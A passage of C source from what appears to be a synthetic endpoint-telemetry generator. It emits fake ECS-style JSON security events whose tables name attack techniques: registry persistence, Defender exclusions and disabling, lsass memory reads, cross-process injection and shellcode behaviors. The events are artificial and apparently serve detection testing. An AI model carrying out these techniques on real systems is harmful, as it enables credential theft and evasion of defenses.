                if (f->sym && !(f->fl & FNS) && (f->mod == M_NTDLL || !rpct(12))) {
                    si[sl++] = '!';
                    size_t n = strlen(f->sym);
                    memcpy(si + sl, f->sym, n);
                    sl += n;
                } else if (f->sym) {
                    /* symbol dropped: turn it into an RVA inside the module */
                    uint64_t x = fnv1a(f->sym);
                    uint32_t rva = (uint32_t)(splitmix64(&x) % 0x1a0000u) + 0x1000u + f->off;
                    memcpy(si + sl, "+0x", 3);
                    sl += 3;
                    char *save = wp;
                    wp = si + sl;
                    whex(rva);
                    sl = (size_t)(wp - si);
                    wp = save;
                    goto have_si;
                }
            }
            memcpy(si + sl, "+0x", 3);
            sl += 3;
            char *save = wp;
            wp = si + sl;
            whex(f->off);
            sl = (size_t)(wp - si);
            wp = save;
        }
    have_si:;
        if (f->kind != 1) {
            K("symbol_info");
            wjs_n(si, sl);
        } else {
            /* unbacked frame: optional protection / provenance / private bytes / callsite bytes */
            int has_prot = rpct(90);
            const char *prot = rpct(tp->rwx_pct) ? "RWX" : "R-X";
            const char *prov = NULL;
            if (tp->prov != PV_NONE && rpct(tp->prov_pct)) {
                switch (tp->prov) {
                case PV_CLR: prov = "clr.dll"; break;
                case PV_CORECLR: prov = "coreclr.dll"; break;
                case PV_JVM: prov = "jvm.dll"; break;
                case PV_JS9: prov = "jscript9.dll"; break;
                default: prov = p->name_lc; break;
                }
            }
            int has_apb = rpct(80);
            uint32_t apb = rrange(1, 256) * 4096;
            int has_cs = (f->fl & FCS) && cs_left > 0 && rpct(first_unb ? 40 : 10);
            int sc_site = (f->fl & FSC) && i == 0;
            first_unb = 0;
            if (has_cs) cs_left--;
            if (!alpha) {
                K("symbol_info");
                wjs_n(si, sl);
                if (has_prot) {
                    L(",\"protection\":");
                    wjs(prot);
                }
                if (prov) {
                    L(",\"protection_provenance\":");
                    wjs(prov);
                }
                if (has_apb) {
                    L(",\"allocation_private_bytes\":");
                    wu64(apb);
                }
                if (has_cs) {
                    L(",\"callsite_leading_bytes\":");
                    wcallsite(sc_site);
                    L(",\"callsite_trailing_bytes\":");
                    wcallsite(0);
                }
            } else {
                if (has_apb) {
                    K("allocation_private_bytes");
                    wu64(apb);
                    wch(',');
                }
                if (has_cs) {
                    K("callsite_leading_bytes");
                    wcallsite(sc_site);
                    L(",\"callsite_trailing_bytes\":");
                    wcallsite(0);
                    wch(',');
                }
                if (has_prot) {
                    K("protection");
                    wjs(prot);
                    wch(',');
                }
                if (prov) {
                    K("protection_provenance");
                    wjs(prov);
                    wch(',');
                }
                K("symbol_info");
                wjs_n(si, sl);
            }
        }
        wch('}');
    }
    wch(']');
    if (with_summary) {
        L(",\"call_stack_summary\":\"");
        const char *last = NULL;
        size_t lastn = 0;
        int first = 1;
        for (int i = 0; i < NFR; i++) {
            const frame *f = &FR[i];
            if (last && f->nlen == lastn && memcmp(f->name, last, lastn) == 0) continue;
            if (!first) wch('|');
            first = 0;
            wput(f->name, f->nlen);
            last = f->name;
            lastn = f->nlen;
        }
        wch('"');
    }
}

/* ------------------------------------------------------------- event parts */

enum { C_PROCESS, C_FILE, C_REGISTRY, C_API, C_LIBRARY, C_NETWORK };
static const char *const CAT_NAMES[] = {"process", "file", "registry", "api", "library", "network"};
static uint8_t CAT_W[] = {25, 30, 15, 15, 10, 5};
/* the "process" mix: a third process events, most of them starts */
static const uint8_t CAT_W_PROCESS[] = {32, 26, 14, 14, 9, 5};
static unsigned START_PCT = 55;
static const uint8_t CAT_STACK_PCT[] = {50, 40, 40, 100, 35, 20};

static void wsig(uint8_t sg)
{
    if (sg == SG_NONE) {
        L("{\"exists\":false}");
        return;
    }
    L("{\"trusted\":true,\"subject_name\":");
    wjs(SIGNERS[sg]);
    L(",\"exists\":true,\"status\":\"trusted\"}");
}

static void w_args(const char *cmd, uint32_t *count)
{
    char tmp[1280];
    uint32_t n = 0;
    wch('[');
    const char *s = cmd;
    for (;;) {
        while (*s == ' ' || *s == '\t') s++;
        if (!*s) break;
        size_t k = 0;
        int inq = 0;
        while (*s && (inq || (*s != ' ' && *s != '\t'))) {
            if (*s == '"') {
                inq = !inq;
                s++;
                continue;
            }
            tmp[k++] = *s++;
        }
        if (n++) wch(',');
        wjs_n(tmp, k);
    }
    wch(']');
    *count = n;
}

static void w_user(const host *h, const proc *p)
{
    K("user");
    if (p->user == 0) {
        L("{\"name\":");
        wjs(h->user);
        L(",\"domain\":");
        wjs(h->domain);
        L(",\"id\":");
        wjs(h->sid);
    } else {
        L("{\"name\":");
        wjs(UK_NAMES[p->user][0]);
        L(",\"domain\":");
        wjs(UK_NAMES[p->user][1]);
        L(",\"id\":");
        wjs(UK_NAMES[p->user][2]);
    }
    wch('}');
}

static void w_host(const host *h)
{
    K("host");
    L("{\"name\":");
    wjs(h->name);
    L(",\"os\":{\"type\":\"windows\",\"family\":\"windows\"},\"id\":");
    wjs(h->id);
    wch('}');
}

static void w_event(int cat, const char *action, const char *type, const char *outcome,
                    const host *h, const char *provider)
{
    K("event");
    L("{\"category\":[");
    wjs(CAT_NAMES[cat]);
    L("],\"action\":");
    wjs(action);
    L(",\"type\":[");
    wjs(type);
    L("],\"kind\":\"event\",\"id\":\"");
    wput(h->evprefix, 12);
    {
        uint64_t c = h->evcount;
        char t[12];
        for (int i = 11; i >= 0; i--) {
            t[i] = c ? B64[c & 63] : '+';
            c >>= 6;
        }
        wput(t, 12);
    }
    L("\",\"dataset\":\"endpoint.events.");
    wput(CAT_NAMES[cat], strlen(CAT_NAMES[cat]));
    L("\",\"outcome\":");
    wjs(outcome);
    if (provider) {
        L(",\"provider\":");
        wjs(provider);
    }
    wch('}');
}

/* registry templates: '|' separates key and value */
typedef struct {
    const char *path;
    const char *type;
    const char *data; /* NULL: no strings; "#" numeric */
} regt;
static const regt REGS[] = {
    {"HKLM\\SYSTEM\\ControlSet001\\Services\\{S}|ImagePath", "REG_EXPAND_SZ",
     "%SystemRoot%\\System32\\svchost.exe -k {K} -p"},
    {"HKLM\\SYSTEM\\ControlSet001\\Services\\{S}|ImagePath", "REG_EXPAND_SZ",
     "\"C:\\Program Files\\{V}\\{T}\\{T}svc.exe\" -service"},
    {"HKLM\\SYSTEM\\ControlSet001\\Services\\{S}|Start", "REG_DWORD", "#"},
    {"HKLM\\SYSTEM\\ControlSet001\\Services\\{S}\\Parameters|ServiceDll", "REG_EXPAND_SZ",
     "%SystemRoot%\\System32\\{s}.dll"},
    {"HKLM\\SYSTEM\\ControlSet001\\Services\\{S}|Type", "REG_DWORD", "#"},
    {"HKLM\\SYSTEM\\ControlSet001\\Services\\bam\\State\\UserSettings\\{Z}|"
     "\\Device\\HarddiskVolume3\\Windows\\"
     "System32\\{e}",
     "REG_BINARY", NULL},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run|{T}", "REG_SZ",
     "\"C:\\Program Files\\{V}\\{T}.exe\" /background"},
    {"HKEY_USERS\\{Z}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run|{T}", "REG_SZ",
     "C:\\Users\\{U}\\AppData\\Roaming\\{V}\\{T}.exe --minimized"},
    {"HKEY_USERS\\{Z}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.docx|{"
     "n}",
     "REG_BINARY", NULL},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
     "Options\\{e}|Debugger",
     "REG_SZ", "C:\\ProgramData\\{V}\\{T}.exe"},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows "
     "NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\{V}\\{T}|Id",
     "REG_SZ", "{G}"},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths|C:\\ProgramData\\{V}",
     "REG_DWORD", "0"},
    {"HKLM\\SYSTEM\\ControlSet001\\Control\\Lsa|RunAsPPL", "REG_DWORD", "#"},
    {"HKLM\\SOFTWARE\\Microsoft\\Cryptography\\RNG|Seed", "REG_BINARY", NULL},
    {"HKLM\\SOFTWARE\\Microsoft\\Cryptography\\RNG|Seed", "REG_BINARY", NULL},
    {"HKLM\\SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates\\{W}|Blob", "REG_BINARY",
     NULL},
    {"HKEY_USERS\\{Z}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted "
     "Documents\\TrustRecords|"
     "%USERPROFILE%/Downloads/{D}.docm",
     "REG_BINARY", NULL},
    {"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender|DisableAntiSpyware", "REG_DWORD", "#"},
    {"HKLM\\SYSTEM\\ControlSet001\\Control\\Session Manager\\Environment|Path", "REG_EXPAND_SZ",
     "%SystemRoot%\\system32;%SystemRoot%;%SystemRoot%\\System32\\Wbem;%SYSTEMROOT%"
     "\\System32\\WindowsPowerShell\\"
     "v1.0\\;%SYSTEMROOT%\\System32\\OpenSSH\\;C:\\Program Files\\Git\\cmd;C:\\Program "
     "Files\\dotnet\\;"
     "C:\\Program Files\\nodejs\\"},
    {"HKEY_USERS\\{Z}\\Software\\Classes\\CLSID\\{G}\\InprocServer32|ThreadingModel", "REG_SZ",
     "Apartment"},
    {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WINEVT\\Channels\\Microsoft-Windows-"
     "PowerShell/"
     "Operational|Enabled",
     "REG_DWORD", "#"},
    {"HKEY_USERS\\{Z}\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings|ProxyEnable",
     "REG_DWORD", "#"},
};

static const char *const FILE_TPL[] = {
    "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.tmp",
    "C:\\Users\\{U}\\AppData\\Local\\Temp\\__PSScriptPolicyTest_{r}.ps1",
    "C:\\Windows\\Prefetch\\{A}-{X}.pf",
    "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\Cache_Data\\f_{h}",
    "C:\\Users\\{U}\\Documents\\{D}.docx",
    "C:\\Users\\{U}\\Downloads\\{T}.zip",
    "C:\\Users\\{U}\\Downloads\\{D}.pdf",
    "C:\\Windows\\Temp\\{F}.log",
    "C:\\ProgramData\\Microsoft\\Windows "
    "Defender\\Scans\\History\\Service\\DetectionHistory\\{n}\\{g}",
    "C:\\ProgramData\\{V}\\logs\\{T}.log",
    "C:\\Windows\\System32\\Tasks\\{V}\\{T}",
    "C:\\Users\\{U}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\{D}.lnk",
    "C:\\Users\\{U}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{T}.lnk",
    "C:\\Windows\\SoftwareDistribution\\Download\\{W}\\{X}.cab",
    "C:\\Users\\{U}\\source\\repos\\{P}\\__pycache__\\{Y}.cpython-311.pyc",
    "C:\\Users\\{U}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Network\\Cookies-journal",
    "C:\\Windows\\System32\\LogFiles\\WMI\\RtBackup\\EtwRT.{T}.etl",
    "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.dll",
    "C:\\Users\\{U}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\{X}\\{T}[1].htm",
    "C:\\ProgramData\\Microsoft\\Windows\\WER\\ReportQueue\\AppCrash_{e}_{W}_{X}\\Report.wer",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "C:\\Users\\{U}\\AppData\\Roaming\\{V}\\{T}.exe",
    "C:\\Users\\{U}\\OneDrive - Contoso\\Finance\\{D}.xlsx",
    "C:\\Windows\\ServiceProfiles\\LocalService\\AppData\\Local\\lastalive{n}.dat",
};

static const char *const GEN_DLLS[] = {
    "C:\\Windows\\System32\\amsi.dll",      "C:\\Windows\\System32\\wininet.dll",
    "C:\\Windows\\System32\\winhttp.dll",   "C:\\Windows\\System32\\crypt32.dll",
    "C:\\Windows\\System32\\bcrypt.dll",    "C:\\Windows\\System32\\dbghelp.dll",
    "C:\\Windows\\System32\\dbgcore.dll",   "C:\\Windows\\System32\\samlib.dll",
    "C:\\Windows\\System32\\vaultcli.dll",  "C:\\Windows\\System32\\wldp.dll",
    "C:\\Windows\\System32\\taskschd.dll",  "C:\\Windows\\System32\\wbem\\wbemprox.dll",
    "C:\\Windows\\System32\\dnsapi.dll",    "C:\\Windows\\System32\\netapi32.dll",
    "C:\\Windows\\System32\\urlmon.dll",    "C:\\Windows\\System32\\mswsock.dll",
    "C:\\Windows\\System32\\ncrypt.dll",    "C:\\Windows\\System32\\rsaenh.dll",
    "C:\\Windows\\System32\\cryptbase.dll", "C:\\Windows\\System32\\uxtheme.dll",
    "C:\\Windows\\System32\\propsys.dll",   "C:\\Windows\\System32\\version.dll",
    "C:\\Windows\\System32\\winmm.dll",     "C:\\Windows\\System32\\msxml3.dll",
    "C:\\Windows\\System32\\webio.dll",     "C:\\Users\\{U}\\AppData\\Local\\Temp\\{F}.dll",
    "C:\\ProgramData\\{V}\\{T}.dll",        "C:\\Users\\{U}\\AppData\\Roaming\\{V}\\version.dll"};

static const char *const PUB_IPS[] = {"13.107.42.", "20.190.159.", "52.96.165.",   "142.250.185.",
                                      "151.101.1.", "104.18.32.",  "185.199.108.", "40.126.32.",
                                      "23.215.0.",  "198.51.100.", "203.0.113.",   "34.117.59."};
static const char *const DOMAINS[] = {"login.microsoftonline.com",
                                      "outlook.office365.com",
                                      "www.google.com",
                                      "github.com",
                                      "raw.githubusercontent.com",
                                      "update.contoso.example",
                                      "cdn.fabrikam.example",
                                      "settings-win.data.microsoft.com",
                                      "ctldl.windowsupdate.com",
                                      "api.slack.com",
                                      "fs01.corp.example",
                                      "dc01.corp.example"};

/* --------------------------------------------------------------- events */

#define MAXSECT 16
typedef struct {
    char *p;
    size_t n;
} sect;
static sect SECTS[MAXSECT];
static int NSECT;
static char *sect_start;
static inline void sbeg(void)
{
    sect_start = wp;
}
static inline void send_(void)
{
    SECTS[NSECT].p = sect_start;
    SECTS[NSECT].n = (size_t)(wp - sect_start);
    NSECT++;
}

static int pick_tmpl(const proc *p)
{
    const sprofile *pr = &PROFILES[p->d->prof];
    uint32_t sum = 0;
    for (int i = 0; i < 6; i++) sum += pr->w[i];
    uint32_t r = rbelow(sum);
    for (int i = 0; i < 6; i++) {
        if (r < pr->w[i]) return pr->t[i];
        r -= pr->w[i];
    }
    return pr->t[0];
}

static void w_file_obj(const char *path)
{
    const char *nm = basename_of(path);
    const char *dot = strrchr(nm, '.');
    K("path");
    wjs(path);
    L(",\"name\":");
    wjs(nm);
    if (dot && dot[1]) {
        L(",\"extension\":");
        wjs(dot + 1);
    }
}

static char *scratch;

static void gen_event(void)
{
    host *h = &HOSTS[rbelow(NHOST)];
    int slot = (int)rbelow(NPROC);
    proc *p = &h->procs[slot];
    uint32_t r = rbelow(100), cat = 0;
    while (r >= CAT_W[cat]) {
        r -= CAT_W[cat];
        cat++;
    }
    now_ticks += rrange(10000, 60000); /* 1-6 ms */
    h->evcount++;

    const char *action = "", *etype = "", *outcome = "success", *provider = NULL;
    if (cat == C_PROCESS) {
        if (rpct(START_PCT)) {
            proc_spawn(h, slot, now_ticks);
            action = "start";
            etype = "start";
        } else {
            action = "end";
            etype = "end";
        }
    }

    int t = pick_tmpl(p);
    int has_stack = rpct(CAT_STACK_PCT[cat]);
    int api = 0;

    /* category-specific choices that the stack depends on */
    const fspec *top = TOP_PROC;
    int ntop = (int)NELEM(TOP_PROC);
    char path[512], regval[512], regdata[1024];
    const regt *rt = NULL;
    switch (cat) {
    case C_PROCESS: break;
    case C_FILE: {
        uint32_t a = rbelow(100);
        if (a < 45) {
            action = "creation", etype = "creation", top = TOP_FCREATE,
            ntop = (int)NELEM(TOP_FCREATE);
        } else if (a < 75) {
            action = "modification", etype = "change", top = TOP_FWRITE,
            ntop = (int)NELEM(TOP_FWRITE);
        } else if (a < 82) {
            action = "overwrite", etype = "change", top = TOP_FCREATE,
            ntop = (int)NELEM(TOP_FCREATE);
        } else if (a < 92) {
            action = "deletion", etype = "deletion", top = TOP_FDELETE,
            ntop = (int)NELEM(TOP_FDELETE);
        } else {
            action = "rename", etype = "change", top = TOP_FRENAME, ntop = (int)NELEM(TOP_FRENAME);
        }
        expand(path, path + sizeof path, RPICK(FILE_TPL), h, p);
        break;
    }
    case C_REGISTRY: {
        uint32_t a = rbelow(100);
        if (a < 55) {
            action = "modification", etype = "change", top = TOP_RSET, ntop = (int)NELEM(TOP_RSET);
        } else if (a < 75) {
            action = "query", etype = "access", top = TOP_RQUERY, ntop = (int)NELEM(TOP_RQUERY);
        } else if (a < 90) {
            action = "creation", etype = "creation", top = TOP_RCREATE,
            ntop = (int)NELEM(TOP_RCREATE);
        } else {
            action = "deletion", etype = "deletion", top = TOP_RDELETE,
            ntop = (int)NELEM(TOP_RDELETE);
        }
        rt = &REGS[rbelow((uint32_t)NELEM(REGS))];
        expand(path, path + sizeof path, rt->path, h, p);
        if (rt->data) {
            if (rt->data[0] == '#' && !rt->data[1])
                snprintf(regdata, sizeof regdata, "%u", rbelow(5));
            else
                expand(regdata, regdata + sizeof regdata, rt->data, h, p);
        }
        break;
    }
    case C_API: {
        uint32_t s = 0;
        for (int i = 0; i < A_COUNT; i++) s += API_W[i];
        uint32_t a = rbelow(s);
        for (api = 0; api < A_COUNT - 1 && a >= API_W[api]; api++) a -= API_W[api];
        top = TOP_API[api];
        ntop = top[2].sym ? 3 : 2;
        action = API_NAMES[api];
        etype = (api == A_VALLOC || api == A_VALLOCEX || api == A_APC) ? "creation"
                : api == A_RPM                                         ? "access"
                                                                       : "change";
        outcome = "unknown";
        provider = "Microsoft-Windows-Threat-Intelligence";
        break;
    }
    case C_LIBRARY:
        action = "load", etype = "start", top = TOP_LOAD, ntop = (int)NELEM(TOP_LOAD);
        break;
    case C_NETWORK: top = TOP_NET, ntop = (int)NELEM(TOP_NET); break;
    }
    if (cat != C_PROCESS && rpct(3)) outcome = "failure";

    if (has_stack || cat == C_LIBRARY) build_stack(t, top, ntop, h, p);

    /* ---- sections ---- */
    wp = scratch;
    NSECT = 0;

    sbeg();
    K("@timestamp");
    wts(now_ticks);
    send_();

    sbeg();
    K("agent");
    L("{\"id\":");
    wjs(h->agent_id);
    L(",\"type\":\"endpoint\",\"version\":");
    wjs(h->agent_ver);
    wch('}');
    send_();

    sbeg();
    w_host(h);
    send_();

    /* network sub-kind decided before the event object */
    int dns = 0;
    if (cat == C_NETWORK) {
        uint32_t a = rbelow(100);
        if (a < 30) {
            dns = 1;
            action = "lookup_result";
            etype = "protocol";
        } else if (a < 75)
            action = "connection_attempted", etype = "start";
        else if (a < 85)
            action = "connection_accepted", etype = "start";
        else
            action = "disconnect_received", etype = "end";
    }

    sbeg();
    w_event((int)cat, action, etype, outcome, h, provider);
    send_();

    sbeg();
    L("\"ecs\":{\"version\":\"8.11.0\"}");
    send_();

    sbeg();
    w_user(h, p);
    send_();

    /* ---- process ---- */
    sbeg();
    K("process");
    L("{\"pid\":");
    wu64(p->pid);
    L(",\"entity_id\":");
    wjs(p->eid);
    L(",\"name\":");
    wjs(p->name);
    L(",\"executable\":");
    wjs(p->exe);
    L(",\"command_line\":");
    wjs(p->cmd);
    L(",\"args\":");
    uint32_t argc = 0;
    w_args(p->cmd, &argc);
    if (cat == C_PROCESS) {
        L(",\"args_count\":");
        wu64(argc);
    }
    L(",\"parent\":{\"pid\":");
    wu64(p->ppid);
    L(",\"entity_id\":");
    wjs(p->peid);
    L(",\"name\":");
    wjs(p->pname);
    L(",\"executable\":");
    wjs(p->pexe);
    L("},\"code_signature\":");
    wsig(p->d->signer);
    if (cat == C_API) {
        L(",\"Ext\":{");
        {
            static const char *const VP_TARGETS[] = {"Unbacked",
                                                     "kernel32.dll!FatalExit",
                                                     "ntdll.dll",
                                                     "amsi.dll!AmsiScanBuffer",
                                                     "ntdll.dll!EtwEventWrite",
                                                     "clr.dll",
                                                     "Unbacked"};
            static const char *const XPROC[] = {"notepad.exe", "explorer.exe",      "svchost.exe",
                                                "lsass.exe",   "RuntimeBroker.exe", "msedge.exe",
                                                "dllhost.exe"};
            int shelly = t == T_SHELLCODE || t == T_SHELLCODE_HOSTED || t == T_SHELLCODE_UNK ||
                         t == T_DIRECT_UNB || t == T_INDIRECT;
            int direct = t == T_DIRECT_APP || t == T_DIRECT_UNB;
            const char *prot = rpct(shelly ? 80 : 40) ? "RWX" : (rpct(50) ? "R-X" : "RW-");
            const char *old = rpct(50) ? "RW-" : "R-X";
            uint64_t addr = rpct(60) ? 0x7ff000000000ULL + ((uint64_t)rbelow(0x0fffffff) << 4)
                                     : 0x10000000000ULL + ((uint64_t)rbelow(0x3fffffff) << 12);
            uint32_t size = rpct(50) ? rrange(0x10, 0x400) : rrange(1, 512) * 0x1000;
            const char *tp = RPICK(VP_TARGETS);
            const char *xp = api == A_RPM ? "lsass.exe" : RPICK(XPROC);
            char summ[256];
            switch (api) {
            case A_VPROT:
                snprintf(summ, sizeof summ, "VirtualProtect( %s, 0x%x, %s, %s )", tp, size, prot,
                         old);
                break;
            case A_VPROTEX:
                snprintf(summ, sizeof summ, "VirtualProtectEx( %s, Unbacked, 0x%x, %s, %s )", xp,
                         size, prot, old);
                break;
            case A_VALLOC:
                snprintf(summ, sizeof summ, "VirtualAlloc( NULL, 0x%x, COMMIT|RESERVE, %s )", size,
                         prot);
                break;
            case A_VALLOCEX:
                snprintf(summ, sizeof summ, "VirtualAllocEx( %s, NULL, 0x%x, COMMIT|RESERVE, %s )",
                         xp, size, prot);
                break;
            case A_WPM:
                snprintf(summ, sizeof summ, "WriteProcessMemory( %s, Unbacked, 0x%x )", xp, size);
                break;
            case A_MAPVIEW:
                snprintf(summ, sizeof summ, "MapViewOfFile2( %s, Unbacked, 0x%x, %s )", xp, size,
                         prot);
                break;
            case A_SETCTX:
                snprintf(summ, sizeof summ, "SetThreadContext( %s, Unbacked )", xp);
                break;
            case A_APC: snprintf(summ, sizeof summ, "QueueUserAPC( %s, Unbacked )", xp); break;
            default:
                snprintf(summ, sizeof summ, "ReadProcessMemory( %s, 0x%llx, 0x%x )", xp,
                         (unsigned long long)addr, size);
                break;
            }
            L("\"api\":{\"name\":");
            wjs(API_NAMES[api]);
            L(",\"summary\":");
            wjs(summ);
            L(",\"behaviors\":[");
            if (direct)
                L("\"direct_syscall\",\"native_api\"");
            else if (shelly) {
                if (rpct(50))
                    L("\"shellcode\",\"allocate_shellcode\",\"unbacked_rwx\"");
                else
                    L("\"execute_shellcode\",\"unbacked_rwx\"");
            } else if (t == T_DOTNET || t == T_POWERSHELL || t == T_PWSH || t == T_DNCORE)
                L("\"sensitive_api\",\"hollow_image\",\"unbacked_rwx\"");
            else if (api == A_VALLOCEX || api == A_WPM || api == A_MAPVIEW || api == A_SETCTX ||
                     api == A_APC || api == A_VPROTEX)
                L("\"cross-process\",\"native_api\"");
            else
                L("\"native_api\"");
            L("],\"parameters\":{\"address\":");
            wu64(addr);
            L(",\"size\":");
            wu64(size);
            if (api != A_RPM && api != A_SETCTX && api != A_APC) {
                L(",\"protection\":");
                wjs(prot);
            }
            if (api == A_VPROT || api == A_VPROTEX) {
                L(",\"protection_old\":");
                wjs(old);
            }
            if (api == A_VALLOC || api == A_VALLOCEX) L(",\"allocation_type\":\"COMMIT|RESERVE\"");
            wch('}');
            if (api == A_VPROT && tp[0] != 'U') {
                L(",\"metadata\":{\"target_address_name\":");
                wjs(tp);
                L(",\"target_address_path\":\"c:\\\\windows\\\\system32\\\\");
                const char *bang = strchr(tp, '!');
                wput(tp, bang ? (size_t)(bang - tp) : strlen(tp));
                L("\"}");
            }
            wch('}');
        }
        wch('}');
    }
    L(",\"thread\":{\"id\":");
    wu64(p->tids[rbelow(4)]);
    if (has_stack) {
        L(",\"Ext\":{");
        write_stack(&TMPLS[t], p, rpct(25), rpct(10));
        wch('}');
    }
    L("}}");
    send_();

    /* ---- category objects ---- */
    switch (cat) {
    case C_FILE:
        sbeg();
        K("file");
        wch('{');
        w_file_obj(path);
        if (etype[0] == 'c' && action[0] != 'd') {
            L(",\"size\":");
            wu64(rrange(0, 4u << 20));
        }
        if (action[0] == 'r') {
            char orig[512];
            expand(orig, orig + sizeof orig, RPICK(FILE_TPL), h, p);
            L(",\"Ext\":{\"original\":{\"path\":");
            wjs(orig);
            L(",\"name\":");
            wjs(basename_of(orig));
            L("}}");
        }
        wch('}');
        send_();
        break;
    case C_REGISTRY: {
        sbeg();
        K("registry");
        char *bar = strchr(path, '|');
        char *kstart = path;
        const char *hive = "HKLM";
        if (strncmp(path, "HKLM\\", 5) == 0)
            kstart = path + 5;
        else if (strncmp(path, "HKEY_USERS\\", 11) == 0)
            kstart = path + 11, hive = "HKU";
        size_t klen = bar ? (size_t)(bar - kstart) : strlen(kstart);
        const char *val = bar ? bar + 1 : "";
        snprintf(regval, sizeof regval, "%s", val);
        if (bar) *bar = '\\';
        L("{\"path\":");
        wjs(path);
        L(",\"hive\":");
        wjs(hive);
        L(",\"key\":");
        wjs_n(kstart, klen);
        L(",\"value\":");
        wjs(regval);
        if (action[0] != 'd') {
            L(",\"data\":{\"strings\":[");
            if (rt->data) wjs(regdata);
            L("],\"type\":");
            wjs(rt->type);
            wch('}');
        }
        wch('}');
        send_();
        break;
    }
    case C_LIBRARY: {
        sbeg();
        K("dll");
        char dp[512];
        uint8_t sg = SG_MSWIN;
        int from_stack = 0;
        if (rpct(50)) {
            for (int tries = 0; tries < 4; tries++) {
                const frame *f = &FR[rbelow((uint32_t)NFR)];
                if (f->kind == 0 && f->mod != M_NTDLL && f->mod != M_KERNELBASE &&
                    f->mod != M_KERNEL32 && f->path != p->exe_lc) {
                    memcpy(dp, f->path, f->plen);
                    dp[f->plen] = 0;
                    sg = f->mod < M_COUNT ? MODS[f->mod].signer : SG_MSWIN;
                    from_stack = 1;
                    break;
                }
            }
        }
        if (!from_stack) {
            uint32_t i = rbelow((uint32_t)NELEM(GEN_DLLS));
            expand(dp, dp + sizeof dp, GEN_DLLS[i], h, p);
            if (i >= NELEM(GEN_DLLS) - 3) sg = SG_NONE;
        }
        L("{\"path\":");
        wjs(dp);
        L(",\"name\":");
        wjs(basename_of(dp));
        L(",\"code_signature\":");
        wsig(sg);
        wch('}');
        send_();
        break;
    }
    case C_NETWORK: {
        char dip[24];
        int internal = rpct(35);
        if (internal)
            snprintf(dip, sizeof dip, "10.%u.%u.%u", rrange(0, 40), rrange(0, 255), rrange(2, 254));
        else
            snprintf(dip, sizeof dip, "%s%u", RPICK(PUB_IPS), rrange(1, 254));
        static const uint16_t PORTS_INT[] = {445, 135, 389, 88, 3389, 5985, 53, 443, 1433, 636};
        static const uint16_t PORTS_EXT[] = {443, 443, 443, 80, 8080, 443, 22, 8443};
        uint32_t dport = internal ? RPICK(PORTS_INT) : RPICK(PORTS_EXT);
        uint32_t sport = rrange(49152, 65535);
        int ingress = action[11] == 'a'; /* connection_accepted */
        const char *dom = RPICK(DOMAINS);
        if (dns) {
            dport = 53;
            snprintf(dip, sizeof dip, "10.%u.0.%u", rrange(0, 3), rrange(10, 12));
        }
        sbeg();
        K("network");
        L("{\"direction\":");
        wjs(ingress ? "ingress" : "egress");
        L(",\"transport\":");
        wjs(dns ? "udp" : "tcp");
        L(",\"type\":\"ipv4\"");
        if (dns) L(",\"protocol\":\"dns\"");
        wch('}');
        send_();
        sbeg();
        K("source");
        L("{\"ip\":");
        wjs(ingress ? dip : h->ip);
        L(",\"port\":");
        wu64(ingress ? dport : sport);
        wch('}');
        send_();
        sbeg();
        K("destination");
        L("{\"ip\":");
        wjs(ingress ? h->ip : dip);
        L(",\"port\":");
        wu64(ingress ? sport : dport);
        if (!ingress && !internal && !dns) {
            L(",\"address\":");
            wjs(dom);
        }
        wch('}');
        send_();
        if (dns) {
            sbeg();
            K("dns");
            L("{\"question\":{\"name\":");
            wjs(dom);
            L(",\"type\":\"A\"},\"resolved_ip\":[");
            char rip[24];
            snprintf(rip, sizeof rip, "%s%u", RPICK(PUB_IPS), rrange(1, 254));
            wjs(rip);
            L("]}");
            send_();
        }
        break;
    }
    default: break;
    }

    /* ---- assemble: shuffle top-level keys in about half of the events ---- */
    int order[MAXSECT];
    for (int i = 0; i < NSECT; i++) order[i] = i;
    if (rpct(50)) {
        for (int i = NSECT - 1; i > 0; i--) {
            int j = (int)rbelow((uint32_t)i + 1);
            int tmp = order[i];
            order[i] = order[j];
            order[j] = tmp;
        }
    }
    /* the assembled line goes after the sections in scratch */
    char *line = wp;
    *wp++ = '{';
    for (int i = 0; i < NSECT; i++) {
        if (i) *wp++ = ',';
        memcpy(wp, SECTS[order[i]].p, SECTS[order[i]].n);
        wp += SECTS[order[i]].n;
    }
    *wp++ = '}';
    *wp++ = '\n';
    sect_start = line; /* reuse: caller copies [line, wp) */
}

/* ------------------------------------------------------------------ main */

static int parse_bytes(const char *s, uint64_t *out)
{
    char *end;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (errno || end == s || *s == '-') return -1;
    uint64_t m = 1;
    if (*end == 'k' || *end == 'K')
        m = 1000ULL, end++;
    else if (*end == 'm' || *end == 'M')
        m = 1000000ULL, end++;
    else if (*end == 'g' || *end == 'G')
        m = 1000000000ULL, end++;
    if (*end && !((*end == 'b' || *end == 'B') && !end[1])) return -1;
    *out = (uint64_t)v * m;
    return 0;
}

static void init_tables(void)
{
    for (int m = 0; m < M_COUNT; m++) {
        MODLEN[m] = strlen(MODS[m].path);
        MODS[m].name = basename_of(MODS[m].path);
    }
    for (size_t i = 0; i < NPDEF; i++) pdef_wsum += PDEFS[i].weight;
    for (size_t i = 0; i < NELEM(PS_SCRIPTS); i++) {
        size_t n = strlen(PS_SCRIPTS[i]);
